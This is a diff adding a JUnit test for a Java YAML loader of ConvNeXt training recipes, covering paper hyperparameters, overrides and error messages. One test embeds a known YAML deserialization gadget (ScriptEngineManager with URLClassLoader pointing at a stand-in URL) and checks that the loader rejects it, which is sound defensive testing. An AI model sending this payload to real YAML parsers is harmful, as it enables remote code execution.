@@ -1,0 +1,87 @@
+package org.convnext4j.train.config;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.stream.Stream;
+
+import org.junit.jupiter.api.Test;
+
+class RecipeLoaderTest {
+
+    private static final Path CONFIGS = Path.of("../configs");
+
+    @Test
+    void everyShippedRecipeBindsAndRoundTrips() throws IOException {
+        List<Path> recipes;
+        try (Stream<Path> files = Files.list(CONFIGS)) {
+            recipes = files.filter(p -> p.toString().endsWith(".yaml")).sorted().toList();
+        }
+        assertTrue(recipes.size() >= 2, "recipes in configs/: " + recipes);
+        for (Path file : recipes) {
+            Recipe recipe = RecipeLoader.load(file, List.of());
+            Recipe again = RecipeLoader.parse("effective", RecipeLoader.toYaml(recipe), List.of());
+            assertEquals(recipe, again, file.toString());
+        }
+    }
+
+    @Test
+    void paperRecipeHasThePaperValues() throws IOException {
+        Recipe r = RecipeLoader.load(CONFIGS.resolve("convnext_tiny_in1k.yaml"), List.of());
+        assertEquals(4096, r.data().batchSize() * r.training().updateFreq());
+        assertEquals(4e-3, r.optimizer().lr());
+        assertEquals(0.05, r.optimizer().weightDecay());
+        assertEquals(300, r.schedule().epochs());
+        assertEquals(20, r.schedule().warmupEpochs());
+        assertEquals(1e-6, r.schedule().minLr());
+        assertEquals(0.1, r.model().dropPathRate());
+        assertEquals(0.9999, r.training().emaDecay());
+        assertTrue(r.training().ema());
+        assertEquals("rand-m9-mstd0.5-inc1", r.augment().randAugment());
+        assertEquals(List.of(0.8, 1.0, 0.25, 0.1), List.of(r.augment().mixup(), r.augment().cutmix(), r.augment().reprob(),
+                r.augment().labelSmoothing()));
+    }
+
+    @Test
+    void overridesApplyBeforeValidation() {
+        Recipe r = RecipeLoader.parse("t.yaml", "model: {variant: convnext_atto}\ndata: {root: d}\n",
+                List.of("optimizer.lr=1e-3", "optimizer.betas=[0.9, 0.95]", "training.ema=true", "model.num_classes=5"));
+        assertEquals(1e-3, r.optimizer().lr());
+        assertEquals(List.of(0.9, 0.95), r.optimizer().betas());
+        assertTrue(r.training().ema());
+        assertEquals(5, r.model().numClasses());
+        assertNull(RecipeLoader.parse("t.yaml", "model: {variant: v}\ndata: {root: d}\n", List.of()).model().numClasses());
+    }
+
+    @Test
+    void mistakesAreOneLineErrorsNamingTheKey() {
+        assertError("model: {variant: v}\ndata: {root: d}\noptimizer: {lrr: 0.1}\n", List.of(), "t.yaml: unknown key 'optimizer.lrr'");
+        assertError("model: {variant: v}\ndata: {root: d}\nbogus: 1\n", List.of(), "t.yaml: unknown key 'bogus'");
+        assertError("model: {variant: v}\ndata: {root: d}\noptimizer: {lr: fast}\n", List.of(), "t.yaml: optimizer.lr is fast, expected a number");
+        assertError("model: {variant: v}\ndata: {root: d}\n", List.of("optimizer.lr=-1"), "t.yaml: optimizer.lr is -1.0, expected > 0");
+        assertError("model: {variant: v}\ndata: {root: d}\ntraining: {update_freq: 1.5}\n", List.of(),
+                "t.yaml: training.update_freq is 1.5, expected a whole number");
+        assertError("model: {variant: v}\n", List.of(), "t.yaml: data.root is null, expected a folder");
+        assertError("model: {variant: v}\ndata: {root: d}\n", List.of("optimizer.lr"), "expected key.path=value");
+        assertError("model: [1, 2]\n", List.of(), "t.yaml: model is [1, 2], expected a section");
+        assertError("model: {variant: v}\nmodel: {variant: w}\n", List.of(), "not valid YAML");
+    }
+
+    @Test
+    void yamlTagsCannotConstructJavaObjects() {
+        String hostile = "model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";
+        assertError(hostile, List.of(), "t.yaml: not valid YAML");
+    }
+
+    private static void assertError(String yaml, List<String> overrides, String expected) {
+        ConfigException e = assertThrows(ConfigException.class, () -> RecipeLoader.parse("t.yaml", yaml, overrides));
+        assertTrue(e.getMessage().contains(expected), e.getMessage());
+        assertEquals(1, e.getMessage().lines().count(), e.getMessage());
+    }
+}
